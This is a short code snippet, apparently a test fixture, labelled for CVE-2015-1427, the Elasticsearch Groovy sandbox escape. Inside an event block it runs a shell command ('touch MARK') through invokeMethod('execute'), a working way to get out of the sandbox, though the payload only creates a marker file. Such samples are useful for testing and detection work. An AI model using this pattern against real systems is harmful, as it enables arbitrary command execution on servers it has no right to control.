// CVE-2015-1427 (Elasticsearch: Groovy sandbox); Groovy: GroovyObject
// invokeMethod calls by name
event X {
    on { 'a' }
    as {
        'touch MARK'.invokeMethod('execute', null)
    }
}
